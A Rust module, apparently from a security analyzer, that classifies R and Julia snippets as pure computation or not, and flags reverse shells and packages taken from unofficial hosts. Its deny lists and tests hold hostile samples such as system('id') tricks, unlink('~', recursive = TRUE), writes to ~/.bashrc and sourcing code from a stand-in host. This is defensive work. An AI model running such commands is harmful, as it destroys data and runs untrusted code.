//! Code of R and Julia that only computes with what it reads, or has the project's own tests and reports made. Anything that is not
//! in the lists leaves it unread (R Language Definition; "An Introduction to R"; Julia manual).

use std::collections::BTreeSet;

use countersign_plan::inspection::UnknownKind;
use countersign_plan::tool::Effect;

use crate::file::scratch::only_computes as only_computes_of;
use crate::inspection::FindingKind;
use crate::machine::{Machine, Word};

/// Functions of R's base, stats and utils packages that change nothing.
const OF_R: &str = "print cat paste paste0 sprintf format round signif nchar toupper tolower substr substring strsplit gsub sub grepl \
    regexpr trimws rev sort order unique duplicated table tabulate prop.table cut quantile mean median sd var min max range sum prod \
    cumsum cumprod diff length nrow ncol NROW NCOL dim names colnames rownames head tail str summary c list vector data.frame matrix array \
    cbind rbind seq seq_len seq_along rep which which.max which.min is.na is.null anyNA complete.cases na.omit ifelse stopifnot if for while \
    function return invisible lm glm nls anova coef residuals fitted predict confint t.test chisq.test cor aov wilcox.test shapiro.test \
    aggregate tapply merge subset with apply sapply lapply vapply mapply numeric character logical integer double as.numeric as.integer \
    as.character as.logical as.factor as.Date factor levels nlevels droplevels Sys.Date Sys.time date difftime months weekdays strftime \
    strptime set.seed rnorm runif rbinom rpois sample exp log log10 log2 log1p sqrt abs floor ceiling trunc pmin pmax crossprod solve det \
    eigen svd diag t outer identical all any xor isTRUE isFALSE setdiff union intersect is.numeric is.character class typeof sessionInfo \
    packageVersion object.size suppressWarnings suppressMessages suppressPackageStartupMessages rowSums colSums rowMeans colMeans scale \
    nlevels max.col unlist unsplit split stack rownames setNames startsWith endsWith library require \
    installed.packages R.Version numeric_version sprintf toString message as.POSIXct as.POSIXlt ISOdate nchar interaction expand.grid \
    xtabs ftable addmargins cor.test ks.test kruskal.test mad IQR fivenum weighted.mean colSums approx spline ecdf density loess smooth \
    plot lines points abline hist barplot boxplot legend axis text title par layout curve polygon segments mtext dev.off grid rect arrows \
    matplot pairs image contour persp rgb gray grey rainbow heat.colors hcl.colors adjustcolor colorRampPalette box stripchart dotchart \
    mosaicplot pie symbols rug jitter AIC BIC logLik deviance vcov nobs df.residual formula model.matrix TukeyHSD poly I new.env system.time";

/// Functions of packages that only compute, read or draw (CRAN: dplyr, tidyr, readr, stringr, lubridate, ggplot2, sf, sandwich, lmtest).
const OF_PACKAGES: &str = "filter mutate select arrange group_by ungroup summarise summarize count distinct rename transmute slice_head slice_max \
    slice_min left_join inner_join right_join full_join anti_join semi_join bind_rows bind_cols pull n n_distinct desc lag lead row_number \
    if_else case_when coalesce between starts_with ends_with contains everything pivot_longer pivot_wider separate unite drop_na replace_na fill \
    str_detect str_replace str_replace_all str_remove str_extract str_split str_sub str_trim str_to_lower str_to_upper str_count str_length str_pad \
    str_c ymd mdy dmy ymd_hms year month day hour wday floor_date round_date ceiling_date interval tibble as_tibble glimpse ggplot aes geom_point \
    geom_line geom_col geom_bar geom_histogram geom_boxplot geom_smooth geom_text geom_tile geom_sf geom_vline geom_hline facet_wrap facet_grid \
    labs xlab ylab ggtitle theme theme_minimal theme_bw theme_classic element_text element_blank scale_x_continuous scale_y_continuous scale_x_log10 \
    scale_y_log10 scale_fill_viridis_c scale_colour_viridis_c scale_fill_manual coord_flip coord_sf st_is_valid st_area st_length st_transform st_crs \
    st_buffer st_union st_intersection st_intersects st_join st_drop_geometry st_geometry st_centroid st_coordinates st_make_valid st_bbox st_simplify \
    coeftest vcovHC bptest dwtest waldtest col_character col_double col_integer cols parse_number fct_reorder fct_lump percent comma \
    lmer glmer nlmer fixef ranef VarCorr isSingular lme gls gam bam te coxph Surv survfit survdiff emmeans tidy glance augment";

/// Of them, those that read the file that is their first argument, and those that write one.
const READING_OF_PACKAGES: &str =
    "read_csv read_csv2 read_tsv read_delim read_excel read_xlsx read_rds st_read read_sf fromJSON";
const WRITING_OF_PACKAGES: &str = "write_csv write_tsv write_delim write_rds ggsave st_write write_sf";

/// Calls in which a bare name is that of a column.
const OF_COLUMNS: &str = "filter mutate select arrange group_by summarise summarize count distinct rename transmute slice_max slice_min pull aes \
    pivot_longer pivot_wider drop_na facet_wrap facet_grid left_join inner_join desc";

/// Functions that write the file that one of their arguments names.
const WRITING: &str = "pdf png svg jpeg tiff bmp write.csv write.csv2 write.table saveRDS writeLines sink";

/// Functions that call what they are given, by its name too.
const CALLING: &str = "outer aggregate map reduce filter optimize uniroot integrate optim Reduce Filter Map";

/// Functions that read the file that is their first argument.
const READING_OF_JULIA: &str = "eachline readlines readdlm countlines isfile filesize readdir";

/// The same in R.
const READING: &str =
    "read.csv read.csv2 read.table read.delim readLines file.exists file.info file.size list.files dir count.fields";

/// What runs the code of the project, or writes what is made of it.
const OF_PROJECT: &str = "testthat::test_local testthat::test_dir testthat::test_file devtools::test devtools::check devtools::document \
    devtools::load_all rmarkdown::render knitr::knit styler::style_file styler::style_dir styler::style_pkg lintr::lint lintr::lint_dir \
    lintr::lint_package covr::package_coverage roxygen2::roxygenise quarto::quarto_render renv::status Pkg.test Pkg.status";

const OF_JULIA: &str = "println print show display string round sum mean median std var maximum minimum extrema length size ndims sort reverse \
    collect range zeros ones fill rand randn Matrix Vector inv det tr eigvals eigvecs eigen svd rank norm dot cross transpose sqrt abs abs2 exp \
    log log2 log10 sin cos tan atan floor ceil trunc typeof isa eltype versioninfo Threads.nthreads keys values map filter reduce join split \
    replace uppercase lowercase findfirst occursin isempty cumsum prod div mod rem gcd lcm factorial big BigInt BigFloat Float64 Float32 Int \
    Int64 diag I isapprox iseven isodd isprime @time @show @elapsed @printf @sprintf @test if for while function return end else elseif in \
    do begin let using import Dict Set Tuple Vector haskey get zip enumerate first last unique sum count any all argmax argmin findall \
    vcat hcat cat reshape parse tryparse strip lstrip rstrip startswith endswith contains lpad rpad digits isnothing ismissing skipmissing \
    coalesce cor cov quantile today now Date DateTime year month day dayofweek Dates.format Dates.Day Dates.value pairs sortperm permutedims \
    const struct mutable try catch push! pop! append! sort! readline eachrow eachcol isodd nothing something string repeat chomp";

/// Packages that bring nothing else.
const PACKAGES: &str = "dplyr tidyr readr stringr lubridate ggplot2 tibble forcats scales readxl jsonlite sf sandwich lmtest lme4 nlme mgcv survival emmeans broom stats utils methods tools DelimitedFiles LinearAlgebra Statistics Printf Random Dates Test Pkg InteractiveUtils";

/// Words that stand for a value, or belong to the language.
const VALUES: &str = "TRUE FALSE T F NULL NA NaN Inf pi letters LETTERS month.name iris mtcars R.version.string else in next break repeat end true \
    false nothing missing im VERSION Threads Pkg";

/// Functions that do more than compute, whatever else code calls so: a parameter of that name ends with its function.
const BEYOND: &str = "system system2 shell source get match.fun do.call eval parse unlink file.remove file.copy download.file run include \
    include_string evalfile pipeline open rm mv cp download ccall Cmd Meta Core Base Main invokelatest Pkg";

/// How far the pieces of one formula or one list of parameters reach.
const NEAR: usize = 64;

fn has(list: &str, word: &str) -> bool {
    list.split_whitespace().any(|one| one == word)
}

#[derive(Debug, PartialEq)]
enum Piece {
    Name(String),
    Text(String),
    Mark(char),
    End,
}

/// The pieces of a code; nothing where it holds what is not followed.
fn pieces(text: &str, julia: bool) -> Option<Vec<Piece>> {
    let chars: Vec<char> = text.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&c) = chars.get(i) {
        let starts =
            c.is_alphabetic() || c == '.' && chars.get(i + 1).is_some_and(|c| c.is_alphabetic()) || (julia && c == '@');
        if c == '#' {
            while chars.get(i).is_some_and(|c| *c != '\n') {
                i += 1;
            }
        } else if c == '"' || (c == '\'' && !julia) {
            let mut body = String::new();
            i += 1;
            loop {
                match *chars.get(i)? {
                    // Numbers may spell anything.
                    '\\' if !matches!(chars.get(i + 1), Some('n' | 't' | 'r' | '\\' | '"' | '\'')) => return None,
                    '\\' => {
                        body.push(' ');
                        i += 2;
                    }
                    end if end == c => break,
                    other => {
                        body.push(other);
                        i += 1;
                    }
                }
            }
            i += 1;
            // What is put into a text is code, and so is a text that is called.
            if (julia && body.contains('$')) || chars.get(i) == Some(&'(') || chars.get(i) == Some(&c) {
                return None;
            }
            out.push(Piece::Text(body));
        } else if julia && c == '\'' && chars.get(i + 2) == Some(&'\'') && chars.get(i + 1) != Some(&'\\') {
            // A character of Julia's.
            out.push(Piece::Mark('0'));
            i += 3;
        } else if c == '`' || (c == '\'' && !matches!(out.last(), Some(Piece::Name(_) | Piece::Mark(']' | ')')))) {
            return None;
        } else if starts {
            let from = i;
            i += 1;
            let part = |c: char| c.is_alphanumeric() || matches!(c, '_' | '.') || (julia && c == '!');
            loop {
                match chars.get(i) {
                    Some(&c) if part(c) => i += 1,
                    Some(':') if !julia && chars.get(i + 1) == Some(&':') && chars.get(i + 2) != Some(&':') => i += 2,
                    _ => break,
                }
            }
            let mut name: String = chars.get(from..i)?.iter().collect();
            // `f.(x)`, `x.^2`: for each element (Julia manual, "Dot Syntax for Vectorizing Functions").
            if julia
                && matches!(chars.get(i), Some('(' | '+' | '-' | '*' | '/' | '^' | '<' | '>' | '='))
                && name.ends_with('.')
            {
                name.pop();
            }
            // A text with a name before it is one of its own kind.
            if matches!(chars.get(i), Some('"' | '\'')) && !(julia && chars.get(i) == Some(&'\'')) {
                return None;
            }
            out.push(Piece::Name(name));
        } else if c.is_ascii_digit() {
            while chars.get(i).is_some_and(|c| c.is_alphanumeric() || *c == '.') {
                i += 1;
            }
            out.push(Piece::Mark('0'));
        } else if c == '%' && !julia {
            let rest = chars.get(i + 1..)?;
            let end = rest.iter().position(|c| *c == '%')?;
            out.push(Piece::Mark('%'));
            i += end + 2;
        } else {
            if c == ':' && chars.get(i + 1) == Some(&':') {
                return None;
            }
            match c {
                '\n' | ';' => out.push(Piece::End),
                c if c.is_whitespace() => {}
                c => out.push(Piece::Mark(c)),
            }
            i += 1;
        }
    }
    Some(out)
}

/// What a code does that is read to its end.
#[derive(Debug, Default)]
struct Computation {
    read: Vec<String>,
    written: Vec<String>,
    /// Files of the project that are run.
    sourced: Vec<String>,
    /// Whether it runs the project's own code.
    project: bool,
}

/// What a code does; nothing where it may do anything else.
fn only_computes(text: &str, julia: bool) -> Option<Computation> {
    let pieces = pieces(text, julia)?;
    let set = |list: &'static str| list.split_whitespace().collect::<BTreeSet<&str>>();
    let (known, values, packages) = (set(if julia { OF_JULIA } else { OF_R }), set(VALUES), set(PACKAGES));
    let mut own: BTreeSet<&str> = BTreeSet::new();
    for (i, piece) in pieces.iter().enumerate() {
        let Piece::Name(name) = piece else { continue };
        let next = (pieces.get(i + 1), pieces.get(i + 2));
        let given = matches!(next, (Some(Piece::Mark('<')), Some(Piece::Mark('-'))))
            || matches!(next, (Some(Piece::Mark('=')), other) if other != Some(&Piece::Mark('=')));
        let before = i.checked_sub(1).and_then(|i| pieces.get(i));
        let of_loop = matches!(next.0, Some(Piece::Name(word)) if word == "in") || (julia && is_bound(&pieces, i));
        let parameter = matches!(before, Some(Piece::Mark('(' | ','))) && within_function(&pieces, i);
        if given || of_loop || parameter {
            own.insert(name);
        }
    }
    // What a call or an index gives is called: it may be any function.
    let given = |pair: &[Piece]| matches!(pair, [Piece::Mark(')' | ']' | '}'), Piece::Mark('(')]);
    if pieces.windows(2).any(given) {
        return None;
    }
    let mut done = Computation::default();
    let argument =
        |i: usize| pieces.get(i + 1) == Some(&Piece::Mark('=')) && pieces.get(i + 2) != Some(&Piece::Mark('='));
    let applies = pieces.iter().enumerate().any(|(i, piece)| {
        matches!(piece, Piece::Name(name) if !argument(i)
            && (name.ends_with("apply") || has(CALLING, name.rsplit("::").next().unwrap_or(name)))
            // Of dplyr it picks rows.
            && (julia || !matches!(name.as_str(), "filter" | "dplyr::filter")))
    });
    let alone = !pieces.iter().any(|piece| {
        matches!(piece, Piece::Name(name) if matches!(name.as_str(), "library" | "require" | "attach") || name.contains("::"))
    });
    // Where a call that writes ends.
    let mut writes_until = 0;
    let of_packages = set(if julia { "" } else { OF_PACKAGES });
    for (i, piece) in pieces.iter().enumerate() {
        let next = pieces.get(i + 1);
        // `sf::st_read` by the name of its package.
        let bare = match piece {
            Piece::Name(name) if !julia => name.split_once("::").filter(|(package, _)| packages.contains(package)),
            _ => None,
        };
        let own_name = bare.map(|(_, name)| Piece::Name(name.to_owned()));
        let piece = own_name.as_ref().unwrap_or(piece);
        match piece {
            // A function may be given by its name, and a host be read.
            Piece::Text(text) if text.contains("://") || (applies && is_name(text) && !is_read(&pieces, i)) => {
                return None;
            }
            Piece::Name(name) if next == Some(&Piece::Mark('(')) => {
                let first = match (pieces.get(i + 2), pieces.get(i + 3)) {
                    (Some(Piece::Text(text)), _) => Some(text),
                    _ => None,
                };
                if name == "source" && !julia {
                    done.sourced.push(first.filter(|path| path.ends_with(".R") || path.ends_with(".r"))?.clone());
                } else if name == "sink" && pieces.get(i + 2) == Some(&Piece::Mark(')')) && !julia {
                    // What is printed is shown again.
                } else if name == "shiny::runApp" && !julia {
                    is_at_home(pieces.get(i..closing(&pieces, i + 1)?)?).then_some(())?;
                    done.project = true;
                } else if (has(WRITING, name) || has(WRITING_OF_PACKAGES, name)) && !julia {
                    writes_until = closing(&pieces, i + 1)?;
                    let mut texts = pieces.get(i..writes_until)?.iter().filter_map(|piece| match piece {
                        Piece::Text(text) if text.contains(['.', '/']) && !text.contains(' ') => Some(text),
                        _ => None,
                    });
                    // What begins with a pipe is a command.
                    done.written.push(texts.next().filter(|path| !path.starts_with('|'))?.clone());
                } else if (has(READING, name) || has(READING_OF_PACKAGES, name)) && !julia {
                    done.read
                        .push(first.filter(|path| !path.starts_with('|')).cloned().unwrap_or_else(|| ".".to_owned()));
                    first.or_else(|| {
                        has("list.files dir", name)
                            .then_some(&EMPTY)
                            .filter(|_| pieces.get(i + 2) == Some(&Piece::Mark(')')))
                    })?;
                } else if has(READING_OF_JULIA, name) && julia {
                    done.read.push(first?.clone());
                } else if has(OF_PROJECT, name) {
                    done.project = true;
                } else if matches!(name.as_str(), "library" | "require") {
                    let Some(Piece::Name(package)) = pieces.get(i + 2) else { return None };
                    has(PACKAGES, package).then_some(())?;
                } else if !(known.contains(name.as_str())
                    || of_packages.contains(name.as_str())
                    || (own.contains(name.as_str()) && is_nobodys(name))
                    // What a file of the project defines, where no package may have that name.
                    || (!done.sourced.is_empty() && alone && name.contains('_') && is_nobodys(name)))
                {
                    return None;
                }
            }
            Piece::Name(name) => {
                let argument = argument(i);
                // What is printed may go into a file.
                if argument && matches!(name.as_str(), "file" | "con" | "FUN") && (i >= writes_until || name == "FUN") {
                    return None;
                }
                let before = i.checked_sub(1).and_then(|i| pieces.get(i));
                let member = before == Some(&Piece::Mark('$'));
                // What is only given a value is not yet called.
                let given = next == Some(&Piece::Mark('<')) && pieces.get(i + 2) == Some(&Piece::Mark('-'));
                let given = given && matches!(before, None | Some(Piece::End | Piece::Mark('{')));
                let name = name.as_str();
                // A function of that name is found behind a value of that name.
                let named = own.contains(name) && (is_nobodys(name) || !(applies || has(BEYOND, name)));
                let fine = argument || member || given || named || values.contains(name) || known.contains(name);
                let column = !applies && !julia && of_column(&pieces, i);
                if !(fine || column || packages.contains(name) || in_formula(&pieces, i)) {
                    return None;
                }
            }
            _ => {}
        }
    }
    let inside =
        |text: &&Piece| matches!(text, Piece::Text(text) if text.starts_with(['/', '~']) || text.contains(".."));
    let runs = done.project || !done.sourced.is_empty();
    (!runs || !pieces.iter().any(|piece| inside(&piece))).then_some(done)
}

/// Whether a name of Julia is bound where it stands: `f(x) = …` and its parameters, `for (k, v) in …`, `for x = …`.
fn is_bound(pieces: &[Piece], i: usize) -> bool {
    let opens = |at: usize| pieces.get(at) == Some(&Piece::Mark('('));
    let gives = |close: usize| {
        pieces.get(close + 1) == Some(&Piece::Mark('=')) && pieces.get(close + 2) != Some(&Piece::Mark('='))
    };
    let within = |close: usize| matches!(pieces.get(close + 1), Some(Piece::Name(word)) if word == "in");
    if opens(i + 1) {
        return closing(pieces, i + 1).is_some_and(gives);
    }
    let from = i.saturating_sub(NEAR);
    let open = pieces.get(from..i).and_then(|before| before.iter().rposition(|piece| *piece == Piece::Mark('(')));
    open.and_then(|open| closing(pieces, from + open)).is_some_and(|close| close > i && (gives(close) || within(close)))
}

/// Where the bracket that opens at `open` closes.
fn closing(pieces: &[Piece], open: usize) -> Option<usize> {
    let mut depth = 0_i32;
    pieces.iter().enumerate().skip(open).find_map(|(i, piece)| {
        match piece {
            Piece::Mark('(') => depth += 1,
            Piece::Mark(')') => depth -= 1,
            _ => {}
        }
        (depth == 0).then_some(i)
    })
}

static EMPTY: String = String::new();

/// Whether no package that comes with the language has a function of that name: one letter, or with a line in it.
fn is_nobodys(name: &str) -> bool {
    !name.contains('.') && (name.contains('_') || (name.len() == 1 && name != "q"))
}

/// Whether a text is the first argument of a function that reads the file of that name.
fn is_read(pieces: &[Piece], i: usize) -> bool {
    matches!(i.checked_sub(2).and_then(|from| pieces.get(from..i)), Some([Piece::Name(name), Piece::Mark('(')]) if has(READING, name))
}

fn is_name(text: &str) -> bool {
    text.starts_with(|c: char| c.is_alphabetic() || c == '.')
        && text.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | ':'))
}

/// Whether a piece stands among the parameters of a function that is being written.
fn within_function(pieces: &[Piece], i: usize) -> bool {
    let before = pieces.get(i.saturating_sub(NEAR)..i).unwrap_or_default();
    let open = before.iter().rposition(|piece| *piece == Piece::Mark('('));
    let word = open.and_then(|at| at.checked_sub(1)).and_then(|at| before.get(at));
    matches!(word, Some(Piece::Name(word)) if word == "function") || word == Some(&Piece::Mark('\\'))
}

/// Whether a bare name stands in a call that takes the names of columns, and is not what a pipe hands something to.
fn of_column(pieces: &[Piece], i: usize) -> bool {
    let before = pieces.get(i.saturating_sub(NEAR)..i).unwrap_or_default();
    if matches!(before.last(), Some(Piece::Mark('%' | '>'))) {
        return false;
    }
    let mut depth = 0_i32;
    for (at, piece) in before.iter().enumerate().rev() {
        match piece {
            Piece::Mark(')') => depth += 1,
            Piece::Mark('(') if depth > 0 => depth -= 1,
            Piece::Mark('(') => match at.checked_sub(1).and_then(|at| before.get(at)) {
                Some(Piece::Name(name)) if has(OF_COLUMNS, name.rsplit("::").next().unwrap_or(name)) => return true,
                _ => {}
            },
            Piece::End | Piece::Mark('{' | '}') => return false,
            _ => {}
        }
    }
    false
}

/// Functions that stand around columns in a formula, and call nothing that they are given.
const OF_FORMULAS: &str = "I log log10 log2 log1p exp sqrt abs poly scale factor as.factor te";

/// Whether an application of Shiny listens on this machine alone, as it does where nothing else is said ("runApp").
fn is_at_home(call: &[Piece]) -> bool {
    let mut hosts = call.windows(3).filter_map(|window| match window {
        [Piece::Name(name), Piece::Mark('='), value] if name == "host" => Some(value),
        _ => None,
    });
    hosts.all(|host| matches!(host, Piece::Text(host) if crate::host::is_loopback(host)))
}

/// Whether a name is that of a column in a formula: `yield ~ temp + rain`, `y ~ log(x) + (1 | plot)`.
fn in_formula(pieces: &[Piece], i: usize) -> bool {
    let ends = |piece: &Piece| matches!(piece, Piece::End | Piece::Mark('(' | ')' | ',' | '{' | '}'));
    let tilde = |piece: &Piece| *piece == Piece::Mark('~');
    let behind = || pieces.get(i..).unwrap_or_default().iter().take(NEAR).take_while(|piece| !ends(piece)).any(tilde);
    let (mut closed, mut at) = (0_usize, i);
    while let Some(piece) = at.checked_sub(1).and_then(|at| pieces.get(at)).filter(|_| i - at < NEAR) {
        at -= 1;
        match piece {
            Piece::Mark('~') => return true,
            Piece::Mark(')') => closed += 1,
            Piece::Mark('(') if closed > 0 => closed -= 1,
            Piece::Mark('(') => match at.checked_sub(1).and_then(|at| pieces.get(at)) {
                Some(Piece::Mark('+' | '-' | '*' | '~' | '(')) => {}
                Some(Piece::Name(name)) if has(OF_FORMULAS, name) => {}
                _ => return behind(),
            },
            Piece::Mark(',') if closed > 0 => {}
            Piece::End | Piece::Mark(',' | '{' | '}') => return behind(),
            _ => {}
        }
    }
    behind()
}

impl Machine<'_> {
    /// Code of a language that has no reader of its own: what is grave in it, and that the rest is not known.
    pub(super) fn other_code(&mut self, text: &str) {
        self.foreign_code(text);
        let spelled = super::spelled::spelled(text);
        if spelled != text {
            self.foreign_code(&spelled);
        }
        self.decoded_by_groovy(text);
        self.packages_of_r(&spelled);
        let socket =
            ["Socket(", "TcpClient(", "net.Dial", "socket:", "TCPSocket"].iter().any(|call| text.contains(call));
        let shell = ["/bin/sh", "/bin/bash", "cmd.exe", "\"sh\"", "\"bash\""].iter().any(|name| text.contains(name));
        if socket && shell {
            let message = format!("the code of `{}` connects a shell to a socket", self.by);
            self.find(FindingKind::ReverseShell, message);
        }
        if !self.computes(text) {
            self.unknown(UnknownKind::Code, Effect::Execute, format!("code of `{}` is not analysed", self.by));
            self.named_by_code(&spelled);
        }
    }

    /// Packages that R is told to take from a host which is none of its own archive (R Installation and Administration, "Add-on packages").
    fn packages_of_r(&mut self, text: &str) {
        const TAKING: &[&str] =
            &["install.packages(", "options(", "install_url(", "install_git(", "pak::", "update.packages("];
        const OWN: &[&str] = &["r-project.org", "cran.rstudio.com", "posit.co", "p3m.dev", "bioconductor.org"];
        for statement in text.split(['\n', ';']).filter(|statement| TAKING.iter().any(|call| statement.contains(call)))
        {
            let of_options = !statement.contains("install") && !statement.contains("pak::");
            if of_options && !statement.contains("repos") {
                continue;
            }
            for (at, _) in statement.match_indices("://").take(8) {
                let from = statement.get(..at).and_then(|head| head.rfind(['"', '\''])).map_or(0, |at| at + 1);
                let address = statement.get(from..).unwrap_or("").split(['"', '\'']).next().unwrap_or("");
                let Some(name) = crate::host::read(address).name else { continue };
                let host = name.split(':').next().unwrap_or(&name);
                let own = |known: &&str| host == *known || host.ends_with(&format!(".{known}"));
                if !OWN.iter().any(own) && !crate::host::is_local(&name) {
                    self.touch_host(&Word::text(address));
                    let message = format!("the code of `{}` takes packages from {host}", self.by);
                    self.find(FindingKind::DownloadAndExecute, message);
                }
            }
        }
    }

    /// Whether code of R or Julia is read to its end, and what it touches; of others, whether it only computes.
    fn computes(&mut self, text: &str) -> bool {
        let julia = match self.by.as_str() {
            "julia" => true,
            "R" | "Rscript" | "littler" => false,
            "java" => return only_computes_of("java", text),
            "jshell" => return only_computes_of("jsh", text),
            "kotlin" | "kotlinc" | "kscript" => return only_computes_of("kts", text),
            "gnuplot" => {
                let Some(drawn) = super::plots::drawing(text) else { return false };
                drawn.read.iter().for_each(|path| self.touch_path(Effect::Read, &Word::text(path.as_str()), false));
                drawn
                    .written
                    .iter()
                    .for_each(|path| self.touch_path(Effect::Update, &Word::text(path.as_str()), false));
                return true;
            }
            "csharp" => return only_computes_of("cs", text),
            _ => return false,
        };
        let Some(Computation { read, written, sourced, project }) = only_computes(text, julia) else { return false };
        for path in sourced {
            self.touch_path(Effect::Execute, &Word::text(path), false);
        }
        for path in read {
            self.touch_path(Effect::Read, &Word::text(path), false);
        }
        for path in written {
            self.touch_path(Effect::Update, &Word::text(path), false);
        }
        // The project's profile is read as it starts.
        self.touch_path(Effect::Execute, &Word::text("."), true);
        if project {
            self.touch_path(Effect::Update, &Word::text("."), true);
        }
        true
    }
}

#[cfg(test)]
mod tests {
    use super::only_computes;

    #[test]
    fn what_only_computes_is_read_and_nothing_else() {
        for (julia, text) in [
            (false, "d <- read.csv('data/yield.csv')\nprint(coef(summary(lm(yield ~ temp, data = d))))"),
            (false, "d <- read.csv(\"data/clean.csv\", nrows = 500); str(d); print(summary(d))"),
            (false, "x <- c(1, 2, 3); f <- function(a) a^2; print(sapply(x, f)); cat(mean(x), \"\\n\")"),
            (
                false,
                "x <- read.csv('data/s.csv'); print(quantile(x$amount, c(.5, .9, 1e-3), na.rm = TRUE)); print(x[1:3, ])",
            ),
            (false, "testthat::test_local(reporter = \"summary\")"),
            (false, "testthat::test_local('pkgs/qc', filter = 'spike', reporter = 'summary')"),
            (
                false,
                "q <- sort(na.omit(read.csv('s.csv')$q)); pdf('out/f.pdf', 6, 4); plot(q, log = 'y'); invisible(dev.off())",
            ),
            (
                false,
                "d <- read.csv('d.csv'); hy <- as.integer(format(d$date + 61, '%Y')); print(aggregate(q ~ hy, d, function(x) c(a=min(x))))",
            ),
            (
                false,
                "library(dplyr); library(readr); d <- read_csv('data/i.csv', show_col_types = FALSE); print(filter(d, income > 100))",
            ),
            (false, "x <- sf::st_read('data/f.gpkg', quiet = TRUE); print(table(sf::st_is_valid(x, reason = TRUE)))"),
            (false, "write.csv(head(iris), file = 'out/head.csv', row.names = FALSE)"),
            (false, "rmarkdown::render(\"reports/methods.Rmd\", output_dir = \"build\", quiet = TRUE)"),
            (false, "source(\"R/clean.R\"); print(clean_rows(1))"),
            (false, "sink(\"out/x.txt\"); print(1); sink()"),
            (
                false,
                "d <- read.csv('d.csv'); m <- lme4::lmer(y ~ log(x) + (1 | plot), data = d); print(c(AIC(m), BIC(m), logLik(m)))",
            ),
            (false, "rmarkdown::render(\"a.Rmd\", params = list(n = 10L), envir = new.env())"),
            (false, "shiny::runApp(\"app\", host = \"127.0.0.1\", port = 3838L)"),
            (false, "system.time(x <- 1)"),
            (true, "using LinearAlgebra; A = [2 0; 1 3]; println(eigvals(A))"),
            (true, "println(Threads.nthreads()); versioninfo()"),
        ] {
            assert!(only_computes(text, julia).is_some(), "{text}");
        }
        for (julia, text) in [
            (false, "system('id')"),
            (false, "f <- system; f('id')"),
            (false, "print(sapply('id', 'system'))"),
            (false, "'system'('id')"),
            (false, "`system`('id')"),
            (false, "x <- list(system); x[[1]]('id')"),
            (false, "'id' |> system()"),
            (false, "'id' %>% system"),
            (false, "do.call('system', list('id'))"),
            (false, "base::system('id')"),
            (false, "cat('x', file = '/home/user/.bashrc')"),
            (false, "read.csv(pipe('id'))"),
            (false, "read.csv('https://elsewhere.example/x')"),
            (false, "library(processx); print(1)"),
            (false, "unlink('~', recursive = TRUE)"),
            (false, "system <- 1; system('id')"),
            (false, "c(system = 1); system('id')"),
            (false, "system <- 1; print(sapply('id', system))"),
            (false, "print(sapply('id', 's\\x79stem'))"),
            (false, "sink('x'); print(1)"),
            (false, "library(dplyr); d %>% filter(a > 1) %>% system"),
            (false, "library(dplyr); summarise(d, across(a, system))"),
            (false, "filter(d, system('id'))"),
            (false, "sf::st_read('https://h.example/x.gpkg')"),
            (false, "processx::run('id')"),
            (false, "pdf('|id'); plot(1)"),
            (false, "f <- 'x.csv'; write.csv(1, f)"),
            (false, "hy <- 1; print(sapply('id', hy))"),
            (false, "print(outer('id', 1, 'system'))"),
            (false, "(if (TRUE) print else print)('x')"),
            (false, "c(print)[[1]]('x')"),
            (false, "rmarkdown::render('a.Rmd', output_dir = '/etc')"),
            (false, "print <- get('system'); print('id')"),
            (false, "lapply(X = 'id', FUN = 'system')"),
            (false, "r\"(it's)\"; system('id'); r\"(it's)\""),
            (false, "source('/tmp/x.R')"),
            (false, "source('https://h.example/x.R')"),
            (false, "source('R/x.R'); write_lines('x', '~/.bashrc')"),
            (false, "library(jsonlite); source('R/x.R'); write_json(1, 'x.json')"),
            (false, "shiny::runApp('app', host = '0.0.0.0')"),
            (false, "lm(y ~ Map(system, 'id'))"),
            (false, "lm(y ~ I(sapply('id', system)))"),
            (true, "run(`id`)"),
            (true, "println(\"$(run(x))\")"),
            (true, "rm(\"x\")"),
            (true, "using Base64; print(1)"),
            (true, "map(run, [x])"),
        ] {
            assert!(only_computes(text, julia).is_none(), "{text}");
        }
    }
}
